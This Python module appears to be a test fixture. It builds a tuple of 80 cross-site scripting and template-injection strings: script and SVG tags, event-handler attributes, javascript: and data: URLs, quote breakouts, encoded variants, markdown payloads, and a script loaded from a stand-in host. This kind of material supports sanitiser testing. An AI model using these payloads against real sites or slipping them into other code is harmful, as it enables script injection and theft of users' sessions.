"""Eighty texts that become a program, a link or a command where somebody forgets that they are texts."""

from __future__ import annotations

from typing import Final

_ALERT: Final = "alert(1)"
_TAGS: Final = (
    "<script>{a}</script>",
    "<ScRiPt>{a}</sCrIpT>",
    "<script/src=//x.example.org></script>",
    "<script\n>{a}</script\n>",
    "<<script>{a}//<</script>",
    "</script><script>{a}</script>",
    "</style><script>{a}</script>",
    "</title><script>{a}</script>",
    "</textarea><script>{a}</script>",
    "</td></tr></table><script>{a}</script>",
    "<img src=x onerror={a}>",
    "<img src=x onerror='{a}'",
    '<img """><script>{a}</script>">',
    "<img/src=x/onerror={a}>",
    "<svg onload={a}>",
    "<svg/onload={a}//",
    "<svg><script>{a}</script></svg>",
    "<svg><a xlink:href=javascript:{a}><text>x</text></a></svg>",
    "<svg><animate onbegin={a} attributeName=x></svg>",
    "<svg><set attributeName=onload to={a}></svg>",
    "<math><mi xlink:href=javascript:{a}>x</mi></math>",
    "<body onload={a}>",
    "<iframe src=javascript:{a}></iframe>",
    "<iframe srcdoc='<script>{a}</script>'></iframe>",
    "<object data=javascript:{a}></object>",
    "<embed src=javascript:{a}>",
    "<link rel=stylesheet href=javascript:{a}>",
    "<meta http-equiv=refresh content='0;url=javascript:{a}'>",
    "<base href=javascript:{a}//>",
    "<form action=javascript:{a}><input type=submit>",
    "<button formaction=javascript:{a}>x</button>",
    "<input autofocus onfocus={a}>",
    "<select autofocus onfocus={a}>",
    "<textarea autofocus onfocus={a}>",
    "<details open ontoggle={a}>",
    "<video><source onerror={a}></video>",
    "<audio src=x onerror={a}>",
    "<marquee onstart={a}>",
    "<a href=javascript:{a}>x</a>",
    "<a href='jav&#x09;ascript:{a}'>x</a>",
    "<a href=' javascript:{a}'>x</a>",
    "<a href='data:text/html,<script>{a}</script>'>x</a>",
    "<style>@import 'javascript:{a}';</style>",
    "<div style='background:url(javascript:{a})'>",
    "<div style='width:expression({a})'>",
    "<x onclick={a}>x",
    "<p hx-get=/kill-switch hx-trigger=load>",
    "<p hx-on:load={a}>",
    "<template><script>{a}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={a}>'>",
    "<!--><script>{a}</script>-->",
    "<![CDATA[<script>{a}</script>]]>",
    "<?xml version='1.0'?><script>{a}</script>",
)
_ATTRIBUTES: Final = (
    '" onmouseover="{a}',
    "' onmouseover='{a}",
    '"><script>{a}</script>',
    "'><script>{a}</script>",
    "` onmouseover=`{a}",
    "x onmouseover={a} y",
    '" autofocus onfocus={a} x="',
    "javascript:{a}",
    "JaVaScRiPt:{a}",
    "vbscript:{a}",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
)
_CODE: Final = (
    "';{a};//",
    '";{a};//',
    "\\';{a};//",
    "${{{a}}}",
    "{{{{ 7*7 }}}}",
    "{{% for x in (1,) %}}{a}{{% endfor %}}",
    "{{{{ ''.__class__.__mro__ }}}}",
    "&lt;script&gt;{a}&lt;/script&gt;",
    "&#60;script&#62;{a}&#60;/script&#62;",
    "\\u003cscript\\u003e{a}\\u003c/script\\u003e",
)
_MARKDOWN: Final = (
    "[x](javascript:{a})",
    "![x](https://x.example.org/pixel)",
    "<javascript:{a}>",
    "| x | <script>{a}</script> |",
    "```\n<script>{a}</script>",
    "# x\n\n<img src=x onerror={a}>",
)

SCRIPTS: Final = tuple(text.format(a=_ALERT) for text in (*_TAGS, *_ATTRIBUTES, *_CODE, *_MARKDOWN))
"""All of them."""

assert len(set(SCRIPTS)) == 80
